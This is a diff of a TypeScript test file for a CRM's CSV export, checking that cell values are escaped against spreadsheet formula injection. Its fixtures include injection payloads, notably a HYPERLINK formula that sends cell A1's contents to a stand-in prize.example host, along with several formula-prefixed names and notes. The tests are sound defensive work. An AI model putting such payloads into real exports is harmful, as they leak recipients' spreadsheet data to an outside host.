@@ -13,7 +13,10 @@ import { csvLine, neutralise } from "../csv";
 
 const fixtures = path.join(__dirname, "fixtures");
 const read = (name: string) =>
-  Papa.parse<Record<string, string>>(fs.readFileSync(path.join(fixtures, name), "utf8"), { header: true, skipEmptyLines: true }).data;
+  Papa.parse<Record<string, string>>(fs.readFileSync(path.join(fixtures, name), "utf8"), {
+    header: true,
+    skipEmptyLines: true,
+  }).data;
 
 /**
  * Case 16: five people from a social export, their orders, one audience of
@@ -33,23 +36,44 @@ function caseDatabase(): { db: Db; segmentId: number } {
   read("social_interactions.csv").forEach((person, i) => {
     const id = i + 1;
     const phone = normalisePhone(person.phone, "CN");
-    sqlite.prepare("INSERT INTO profiles (id, key, name, email, phone) VALUES (?, ?, ?, ?, ?)")
-      .run(id, `email:${person.email}`, person.display_name, person.email, phone.ok ? phone.e164 : person.phone);
-    sqlite.prepare(`INSERT INTO customer_metrics (profile_id, orders, revenue_minor, value_minor, tier, stage)
-      VALUES (?, 1, ?, ?, 'base', 'new')`).run(id, spend.get(person.email), spend.get(person.email));
-    sqlite.prepare(`INSERT INTO interactions (source_id, record_key, identifier_id, profile_id, kind, channel,
-      occurred_at, day, detail, import_id) VALUES (1, ?, ?, ?, 'social', ?, '2024-06-01', 19875, ?, 1)`)
+    sqlite
+      .prepare("INSERT INTO profiles (id, key, name, email, phone) VALUES (?, ?, ?, ?, ?)")
+      .run(
+        id,
+        `email:${person.email}`,
+        person.display_name,
+        person.email,
+        phone.ok ? phone.e164 : person.phone,
+      );
+    sqlite
+      .prepare(
+        `INSERT INTO customer_metrics (profile_id, orders, revenue_minor, value_minor, tier, stage)
+      VALUES (?, 1, ?, ?, 'base', 'new')`,
+      )
+      .run(id, spend.get(person.email), spend.get(person.email));
+    sqlite
+      .prepare(
+        `INSERT INTO interactions (source_id, record_key, identifier_id, profile_id, kind, channel,
+      occurred_at, day, detail, import_id) VALUES (1, ?, ?, ?, 'social', ?, '2024-06-01', 19875, ?, 1)`,
+      )
       .run(`s${id}`, id, id, person.platform, person.comment);
   });
-  const segmentId = Number(sqlite.prepare("INSERT INTO segments (name, rule) VALUES ('all', ?)")
-    .run(JSON.stringify({ type: "group", match: "all", children: [] })).lastInsertRowid);
+  const segmentId = Number(
+    sqlite
+      .prepare("INSERT INTO segments (name, rule) VALUES ('all', ?)")
+      .run(JSON.stringify({ type: "group", match: "all", children: [] })).lastInsertRowid,
+  );
   return { db, segmentId };
 }
 
 const labels = { header: (field: string) => field, value: (_: string, key: string) => key };
 
 async function exported(db: Db, segmentId: number): Promise<Buffer> {
-  const { stream } = exportSegment(db, { segmentId, fields: ["name", "email", "phone", "last_note", "revenue"], labels });
+  const { stream } = exportSegment(db, {
+    segmentId,
+    fields: ["name", "email", "phone", "last_note", "revenue"],
+    labels,
+  });
   return Buffer.from(await new Response(stream).arrayBuffer());
 }
 
@@ -68,7 +92,11 @@ describe("export: CSV safe to open in Excel (case 16)", () => {
     const text = (await exported(db, segmentId)).toString("utf8").slice(1);
     const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
     expect(rows[0]).toEqual(["profile_id", "name", "email", "phone", "last_note", "revenue"]);
-    const byEmail = Object.fromEntries(rows.slice(1).map(([, name, email, phone, note, revenue]) => [email, { name, phone, note, revenue }]));
+    const byEmail = Object.fromEntries(
+      rows
+        .slice(1)
+        .map(([, name, email, phone, note, revenue]) => [email, { name, phone, note, revenue }]),
+    );
     expect(rows.length - 1).toBe(5);
     expect(byEmail["sunny.w@example.cn"]).toEqual({
       name: `'=HYPERLINK("http://prize.example/?d="&A1,"Claim prize")`,
@@ -76,10 +104,30 @@ describe("export: CSV safe to open in Excel (case 16)", () => {
       note: "'=1+1",
       revenue: "300.00",
     });
-    expect(byEmail["mk.art@example.com"]).toEqual({ name: "'+1+1", phone: "'+14155550134", note: "'@SUM(1,1)", revenue: "250.00" });
-    expect(byEmail["yu.h@example.cn"]).toEqual({ name: "'-2+3", phone: "'+8613400134000", note: "'\t=1+1", revenue: "200.00" });
-    expect(byEmail["plain.jane@example.com"]).toEqual({ name: "Plain Jane", phone: "'+447700900123", note: "' =2+2", revenue: "180.00" });
-    expect(byEmail["lin.xy@example.cn"]).toEqual({ name: "林小雨", phone: "'+8613300133000", note: "很喜欢这次活动", revenue: "220.00" });
+    expect(byEmail["mk.art@example.com"]).toEqual({
+      name: "'+1+1",
+      phone: "'+14155550134",
+      note: "'@SUM(1,1)",
+      revenue: "250.00",
+    });
+    expect(byEmail["yu.h@example.cn"]).toEqual({
+      name: "'-2+3",
+      phone: "'+8613400134000",
+      note: "'\t=1+1",
+      revenue: "200.00",
+    });
+    expect(byEmail["plain.jane@example.com"]).toEqual({
+      name: "Plain Jane",
+      phone: "'+447700900123",
+      note: "' =2+2",
+      revenue: "180.00",
+    });
+    expect(byEmail["lin.xy@example.cn"]).toEqual({
+      name: "林小雨",
+      phone: "'+8613300133000",
+      note: "很喜欢这次活动",
+      revenue: "220.00",
+    });
     // The quotes inside HYPERLINK are doubled in the file itself.
     expect(text).toContain(`"'=HYPERLINK(""http://prize.example/?d=""&A1,""Claim prize"")"`);
   });
@@ -87,20 +135,32 @@ describe("export: CSV safe to open in Excel (case 16)", () => {
   it("leaves the database's text as it was", async () => {
     const { db, segmentId } = caseDatabase();
     await exported(db, segmentId);
-    const name = db.$client.prepare("SELECT name FROM profiles WHERE email = 'mk.art@example.com'").get();
+    const name = db.$client
+      .prepare("SELECT name FROM profiles WHERE email = 'mk.art@example.com'")
+      .get();
     expect(name).toEqual({ name: "+1+1" });
   });
 });
 
 describe("export: the cell guard", () => {
   it.each([
-    ["=1+1", "'=1+1"], ["  =2+2", "'  =2+2"], ["\t=1+1", "'\t=1+1"], ["\r=1", "'\r=1"], ["-2+3", "'-2+3"],
-    ["@SUM(1)", "'@SUM(1)"], ["+86 135", "'+86 135"], ["a=b", "a=b"], ["Plain Jane", "Plain Jane"], ["", ""],
+    ["=1+1", "'=1+1"],
+    ["  =2+2", "'  =2+2"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1", "'\r=1"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(1)", "'@SUM(1)"],
+    ["+86 135", "'+86 135"],
+    ["a=b", "a=b"],
+    ["Plain Jane", "Plain Jane"],
+    ["", ""],
   ])("neutralise(%j) is %j", (raw, expected) => {
     expect(neutralise(raw)).toBe(expected);
   });
 
   it("writes numbers the app computed as plain numbers, even negative ones", () => {
-    expect(csvLine([-12.5, 0, "-12.50", null, "a,b", 'say "hi"'])).toBe(`-12.5,0,'-12.50,,"a,b","say ""hi"""\r\n`);
+    expect(csvLine([-12.5, 0, "-12.50", null, "a,b", 'say "hi"'])).toBe(
+      `-12.5,0,'-12.50,,"a,b","say ""hi"""\r\n`,
+    );
   });
 });
